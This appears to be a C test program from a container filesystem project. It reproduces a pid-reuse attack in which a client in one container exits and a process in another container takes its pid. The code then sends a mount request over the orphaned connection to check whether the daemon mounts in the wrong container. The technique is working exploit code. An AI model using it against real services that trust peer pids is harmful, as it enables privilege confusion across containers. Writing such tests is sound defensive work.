/* SPDX-License-Identifier: MIT */
/*
 * A client that ends, whose pid a process of another container gets, before its request is made over its connection:
 *
 *     reuse ATTACKER VICTIM FOLDER LETTER
 *
 * ATTACKER and VICTIM: the first processes of two containers. As root of the host, which alone can choose pids. Asks
 * for a mount on the attacker's FOLDER, or where that is "" at LETTER. Says what came of it, and how many file systems
 * are mounted in each of the two.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <sched.h>
#include <signal.h>
#include <sys/syscall.h>
#include <sys/wait.h>

#include "client.h"

#define TRIES 20
#define CLIENT 1000 /* its uid and gid */

static void enter(const char *container) {
    int process = (int)syscall(SYS_pidfd_open, atoi(container), 0);
    if (process < 0 || setns(process, CLONE_NEWNS | CLONE_NEWPID) < 0)
        err(1, "the container of %s", container);
}

/* In the attacker: a process connects, sends its connection and its folder to the meeting, and ends. */
static void be_client(const char *container, const char *folder, int meeting) {
    enter(container);
    pid_t child = fork();
    if (child > 0) {
        waitpid(child, NULL, 0);
        _exit(0);
    }
    if (setgid(CLIENT) < 0 || setuid(CLIENT) < 0)
        err(1, "setuid");
    int fds[] = {connect_to("/dev/linfsp/disk"), open(folder[0] ? folder : "/", O_PATH | O_DIRECTORY)};
    (void)send_fds(meeting, "c", 1, &fds[0], 1);
    (void)send_fds(meeting, "f", 1, &fds[1], 1);
    _exit(0);
}

/* In the victim: a process with that pid on the host. Returns whether there is one. */
static bool take_pid(const char *container, pid_t pid, pid_t *ret_holder) {
    int ready[2];
    char byte;
    if (pipe(ready) < 0)
        err(1, "pipe");
    *ret_holder = fork();
    if (*ret_holder == 0) {
        enter(container);
        pid_t pids[] = {20000 + pid % 10000, pid};
        struct clone_args arguments = {
            .exit_signal = SIGCHLD, .set_tid = (uintptr_t)pids, .set_tid_size = sizeof pids / sizeof *pids};
        long child = syscall(SYS_clone3, &arguments, sizeof arguments);
        if (child > 0)
            (void)write(ready[1], "", 1);
        if (child >= 0)
            pause();
        _exit(1);
    }
    close(ready[1]);
    bool taken = read(ready[0], &byte, 1) == 1;
    close(ready[0]);
    return taken;
}

static unsigned fuse_mounts(const char *container) {
    char path[64], line[4096];
    unsigned count = 0;
    snprintf(path, sizeof path, "/proc/%s/mountinfo", container);
    FILE *file = fopen(path, "re");
    while (file && fgets(line, sizeof line, file))
        count += strstr(line, " - fuse") != NULL;
    if (file)
        fclose(file);
    return count;
}

static void ask(int connection, int place, const char *folder, const char *letter) {
    struct wire_create_volume create = create_request();
    const struct wire_fusermount mount = fusermount_request(folder);
    snprintf(create.letter, sizeof create.letter, "%.1s", letter);
    if (folder[0])
        ask_and_tell(connection, &mount, sizeof mount, place);
    else
        ask_and_tell(connection, &create, sizeof create, -1);
}

static bool attack(char **argv) {
    int meeting[2], connection = -1, place = -1, on = 1;
    pid_t client = 0, holder = 0;
    char byte;
    if (socketpair(AF_UNIX, SOCK_SEQPACKET, 0, meeting) < 0 ||
        setsockopt(meeting[0], SOL_SOCKET, SO_PASSCRED, &on, sizeof on) < 0)
        err(1, "socketpair");
    pid_t child = fork();
    if (child == 0)
        be_client(argv[1], argv[3], meeting[1]);
    if (receive_fd(meeting[0], &byte, 1, &connection, &client) <= 0 ||
        receive_fd(meeting[0], &byte, 1, &place, &client) <= 0 || connection < 0 || place < 0)
        errx(1, "no client");
    waitpid(child, NULL, 0);
    bool taken = take_pid(argv[2], client, &holder);
    if (taken) {
        ask(connection, place, argv[3], argv[4]);
        printf("attacker %u victim %u\n", fuse_mounts(argv[1]), fuse_mounts(argv[2]));
        puts(kill(client, 0) == 0 ? "it lives" : "it died");
        (void)kill(client, SIGKILL); /* it has this pid since it was made: nobody else has */
    }
    (void)kill(holder, SIGKILL);
    waitpid(holder, NULL, 0);
    close(connection);
    close(place);
    return taken;
}

int main(int argc, char **argv) {
    if (argc != 5)
        errx(2, "usage: reuse ATTACKER VICTIM FOLDER LETTER");
    for (int i = 0; i < TRIES; i++) /* a pid may be taken by somebody else first */
        if (attack(argv))
            return 0;
    errx(1, "no process got the pid");
}
